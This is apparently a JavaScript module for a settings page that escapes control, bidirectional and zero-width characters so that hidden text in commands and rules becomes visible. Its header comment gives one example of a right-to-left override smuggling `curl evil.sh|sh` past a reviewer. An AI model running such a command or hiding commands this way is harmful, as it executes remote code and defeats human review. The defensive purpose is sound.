// What a person reads must be what runs: the settings page shows commands, paths, rules and
// names an agent or a repository wrote, and those may hold characters that are invisible or that
// reorder the text around them (`npm test #` + U+202E RIGHT-TO-LEFT OVERRIDE + a newline +
// `curl evil.sh|sh` reads as a harmless comment). This module writes each such character out as
// `\u{…}` (tab, newline and carriage return as `\t`, `\n`, `\r`), exactly as the core does
// (src/visible.rs): the page draws before its wasm module is ready, so it has its own copy of the
// set, and a test checks it against the core's fixture (tests/fixtures/hidden-characters.json)
// over every code point. Plain functions, no DOM: the page builds its elements from `parts`.

/**
 * The characters written out, as [first, last] code point ranges: every control character, the
 * bidirectional formatting characters, and zero-width and other invisible formatting characters
 * (src/visible.rs says where each comes from).
 */
export const HIDDEN_RANGES = Object.freeze([
  [0x0, 0x1F], [0x7F, 0x9F], [0xAD, 0xAD], [0x34F, 0x34F], [0x61C, 0x61C], [0x115F, 0x1160], [0x17B4, 0x17B5],
  [0x180B, 0x180F], [0x200B, 0x200F], [0x2028, 0x202E], [0x2060, 0x206F], [0x3164, 0x3164], [0xFE00, 0xFE0F],
  [0xFEFF, 0xFEFF], [0xFFA0, 0xFFA0], [0xFFF9, 0xFFFB], [0x1BCA0, 0x1BCA3], [0x1D173, 0x1D17A], [0xE0000, 0xE007F],
  [0xE0100, 0xE01EF],
].map((range) => Object.freeze(range)));

const hex = (codePoint) => codePoint.toString(16).toUpperCase().padStart(4, '0');
/** One character class of the whole set: the usual text (none of them) is answered by one search. */
const ANY_HIDDEN = new RegExp(`[${HIDDEN_RANGES.map(([a, b]) => (a === b ? `\\u{${hex(a)}}` : `\\u{${hex(a)}}-\\u{${hex(b)}}`)).join('')}]`, 'u');
const WRITTEN = { 0x9: '\\t', 0xA: '\\n', 0xD: '\\r' };

/** The names a person knows some of them by, for the marker that flags them. */
const NAMES = {
  0x0: 'null', 0x9: 'tab', 0xA: 'line feed', 0xD: 'carriage return', 0x1B: 'escape', 0xAD: 'soft hyphen',
  0x61C: 'Arabic letter mark', 0x200B: 'zero width space', 0x200C: 'zero width non-joiner', 0x200D: 'zero width joiner',
  0x200E: 'left-to-right mark', 0x200F: 'right-to-left mark', 0x2028: 'line separator', 0x2029: 'paragraph separator',
  0x202A: 'left-to-right embedding', 0x202B: 'right-to-left embedding', 0x202C: 'pop directional formatting',
  0x202D: 'left-to-right override', 0x202E: 'right-to-left override', 0x2060: 'word joiner',
  0x2066: 'left-to-right isolate', 0x2067: 'right-to-left isolate', 0x2068: 'first strong isolate',
  0x2069: 'pop directional isolate', 0xFEFF: 'zero width no-break space',
};

/** Whether the character with this code point is written out. */
export function isHidden(codePoint) {
  for (const [first, last] of HIDDEN_RANGES) {
    if (codePoint < first) return false;
    if (codePoint <= last) return true;
  }
  return false;
}

/** Whether `text` holds a character that is written out. */
export function hasHidden(text) {
  return ANY_HIDDEN.test(String(text));
}

/** How one hidden character is written: `\n`, `\u{202E}`. */
const writtenForm = (codePoint) => WRITTEN[codePoint] ?? `\\u{${hex(codePoint)}}`;

/** `text` with every hidden character written out, as the core writes it. */
export function visible(text) {
  const value = String(text);
  if (!hasHidden(value)) return value;
  let out = '';
  for (const char of value) {
    const codePoint = char.codePointAt(0);
    out += isHidden(codePoint) ? writtenForm(codePoint) : char;
  }
  return out;
}

/** A character the core already wrote out: `\u{202E}`. */
const WRITTEN_FORM = /\\u\{([0-9A-F]{4,6})\}/g;

/**
 * `text` cut into the runs a page draws: `{ text }` as it is, and `{ text: '\\u{202E}', hidden:
 * 'U+202E' }` for each hidden character, written out (to be drawn so that it stands out). With
 * `written: true`, for text the core already wrote out (a message, a label), its `\u{…}` of
 * hidden characters are such runs too.
 */
export function parts(text, { written = false } = {}) {
  const value = String(text);
  const out = [];
  let plain = '';
  const hidden = (form, codePoint) => {
    if (plain) out.push({ text: plain });
    plain = '';
    out.push({ text: form, hidden: `U+${hex(codePoint)}` });
  };
  const runs = written ? value.split(WRITTEN_FORM) : [value];
  // split() with a group: the text between forms at even places, each form's digits at odd ones.
  runs.forEach((run, index) => {
    if (index % 2 === 1) {
      const codePoint = Number.parseInt(run, 16);
      if (isHidden(codePoint)) hidden(`\\u{${run}}`, codePoint);
      else plain += `\\u{${run}}`;
      return;
    }
    if (!hasHidden(run)) {
      plain += run;
      return;
    }
    for (const char of run) {
      const codePoint = char.codePointAt(0);
      if (isHidden(codePoint)) hidden(writtenForm(codePoint), codePoint);
      else plain += char;
    }
  });
  if (plain) out.push({ text: plain });
  return out;
}

/** The hidden characters of `text`, each once, in order: `['U+202E', 'U+000A']`. */
export function hiddenIn(text) {
  const value = String(text);
  if (!hasHidden(value)) return [];
  const found = [];
  for (const char of value) {
    const codePoint = char.codePointAt(0);
    const name = `U+${hex(codePoint)}`;
    if (isHidden(codePoint) && !found.includes(name)) found.push(name);
  }
  return found;
}

/** `U+202E` with its name where it has one a person may know: `U+202E (right-to-left override)`. */
export function describe(name) {
  const known = NAMES[Number.parseInt(name.slice(2), 16)];
  return known ? `${name} (${known})` : name;
}
